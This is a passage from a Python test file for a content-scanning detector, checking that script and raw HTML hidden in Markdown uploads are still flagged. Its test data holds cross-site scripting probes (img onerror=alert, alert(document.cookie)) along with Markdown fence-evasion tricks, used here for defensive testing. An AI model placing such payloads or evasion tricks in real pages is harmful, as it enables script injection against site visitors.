    assert got is Verdict.threat and [f.evidence["where"] for f in findings] == [[f"!/docs/raw.{MD}"]]


RAW_IN_MARKDOWN = {
    "an HTML block": b'# Widget\n\n<img src=x onerror="alert(document.domain)">\n',
    "a line indented 4 spaces is no fence": b"Intro\n\n    ```\n<img src=x onerror=alert(1)>\n```\n",
    "a fence in a block quote is not blanked": b"> ```\n<img src=x onerror=alert(1)>\n",
    "a code span inside an HTML block is raw": b"<div>\n`<img src=x onerror=alert(1)>`\n</div>\n",
    "a fence closed by a longer one": b"```\nls\n`````\n\n<img src=x onerror=alert(1)>\n",
    "a form feed is no line end, so no fence follows it": b"Note\x0c```\n<img src=x onerror=alert(1)>\n",
    "a script block over several lines, its backticks raw": (
        b"<script>\nvar s = `x`;\n\nalert(document.cookie)\n</script>\n"
    ),
}


@pytest.mark.parametrize("body", [pytest.param(v, id=k) for k, v in RAW_IN_MARKDOWN.items()])
def test_raw_html_in_markdown_is_still_read(body: bytes) -> None:
    """What a CommonMark renderer passes to the page stays a finding: only an unambiguous fence (at most
    3 spaces in) or a one-line code span outside an HTML block is blanked."""
    got, _, findings = judge(body, f"README.{MD}", served_as="text/markdown")
    assert got in (Verdict.threat, Verdict.review), findings
    assert "I3-script-in-document" in rules_of(findings)


def test_markdown_code_keeps_line_ends_and_is_incremental() -> None:
    from aup.detectors.uploads.markup import MarkdownCode

    text = GUIDE.decode()
    whole = MarkdownCode()
    once = whole.feed(text) + whole.flush()
    pieces = MarkdownCode()
    split = "".join(pieces.feed(text[i : i + 7]) for i in range(0, len(text), 7)) + pieces.flush()
    assert once == split
    assert once.count("\n") == text.count("\n") and len(once) == len(text)
    assert "<" not in once and "# Preventing cross-site scripting" in once
    fence = MarkdownCode()
    assert fence.feed("````\n```\n<b>\n") == "    \n   \n   \n"  # a shorter fence is code
    assert fence.feed("~~~~\n<b>\n````\n<i>\n") == "    \n   \n    \n<i>\n"  # "~~~~" is code, "````" closes


def test_the_rest_of_a_line_too_long_to_hold_is_no_line_start() -> None:
    """A line past ``MARKDOWN_LINE_MAX_CHARS`` is passed on in pieces; a piece that begins with a fence
    mark in mid-line opens nothing (else an aligned one would blank the payload after it), and inside a
    fence the line's rest stays code."""
    from aup.detectors.uploads.markup import MARKDOWN_LINE_MAX_CHARS, MarkdownCode

    long = "a" * (MARKDOWN_LINE_MAX_CHARS + 10)
    m = MarkdownCode()
    assert m.feed(long) == long
    assert m.feed("```\n<img onerror=alert(1)>\n") == "```\n<img onerror=alert(1)>\n"
    fenced = MarkdownCode()
    assert set(fenced.feed("```\n" + long)) <= {" ", "\n"}
    assert fenced.feed("<b>") == "   "  # still the long line, inside the fence
    assert fenced.feed("\n```\n<i>\n") == "\n   \n<i>\n"  # its end, the closing fence, then markup
